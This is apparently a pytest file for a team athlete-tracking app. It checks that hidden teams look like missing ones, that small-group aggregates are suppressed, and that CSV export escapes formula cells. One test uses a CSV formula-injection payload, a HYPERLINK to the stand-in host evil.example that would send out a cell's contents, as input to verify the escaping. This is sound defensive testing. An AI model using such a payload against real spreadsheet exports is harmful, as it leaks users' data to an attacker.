"""The smaller leaks of team mode (issue 15): hidden teams answer like missing ones, the
aggregates cannot be subtracted down to a few athletes, CSV cells are never formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient

from drago.csv_cells import write_csv
from drago.lab import Lab
from drago.lab.audit import MIN_GROUP
from drago.web import create_app
from drago.web.auth import TeamConfig
from tests.conftest import Cli
from tests.team_store import bearer_tokens, build_team_store, cheap_hashing


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with pytest.MonkeyPatch.context() as monkeypatch:
        cheap_hashing(monkeypatch)
        yield build_team_store(tmp_path_factory.mktemp("leaks") / "drago.duckdb")


def test_a_hidden_team_answers_like_a_missing_one(
    built: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cheap_hashing(monkeypatch)
    coach = {"Authorization": f"Bearer {bearer_tokens(built)['coach']}"}
    with TestClient(create_app(built, team=TeamConfig())) as client:
        hidden = client.get("/api/athletes?team=Philadelphia", headers=coach)
        missing = client.get("/api/athletes?team=Atlantis", headers=coach)
        own = client.get("/api/athletes?team=moscow", headers=coach)
    assert hidden.status_code == missing.status_code == 404
    assert hidden.text.replace("Philadelphia", "X") == missing.text.replace("Atlantis", "X")
    assert [a["name"] for a in own.json()["items"]] == ["Drago"]


def test_the_aggregates_cannot_be_subtracted_down_to_a_few(tmp_path: Path) -> None:
    """Teams of 3 and 3 and one athlete without a team: all minus both teams would be that
    one athlete, so one team is left out (all minus the other is then 4)."""
    with Lab(tmp_path / "drago.duckdb") as lab:
        for team in ("Alpha", "Bravo"):
            lab.teams.add(team)
            for number in range(MIN_GROUP):
                lab.athletes.add(f"{team} {number}", sex="m", tz="UTC", team=team)
        lab.athletes.add("Loner", sex="f", tz="UTC")
        rows = lab.audit.aggregates()
    assert rows["group"].to_list() == ["all", "Bravo"] or rows["group"].to_list() == [
        "all",
        "Alpha",
    ]
    shown = rows.filter(pl.col("group") != "all")["n_athletes"].sum()
    assert rows.filter(pl.col("group") == "all")["n_athletes"][0] - shown >= MIN_GROUP


def test_csv_cells_are_never_formulas(cli: Cli) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    cli("athlete", "add", "Drago", "--sex", "m", "--tz", "UTC")
    with Lab(cli.db) as lab:
        for login in (evil, "+1", "-1", "@SUM(A1)", "mick"):
            lab.audit.record(
                login=login,
                role=None,
                action="login-failed",
                method="POST",
                path="/api/login",
                athlete_id=None,
                status=401,
                remote="203.0.113.9",
            )
    rows = list(csv.DictReader(io.StringIO(cli("audit", "--format", "csv").stdout)))
    logins = [row["login"] for row in rows]
    assert logins == [f"'{evil}", "'+1", "'-1", "'@SUM(A1)", "mick"]
    frame = pl.DataFrame({"text": ["=1+1", "\t=1", "plain"], "number": [-1.5, 2.0, 3.0]})
    assert write_csv(frame) == "text,number\n'=1+1,-1.5\n'\t=1,2.0\nplain,3.0\n"
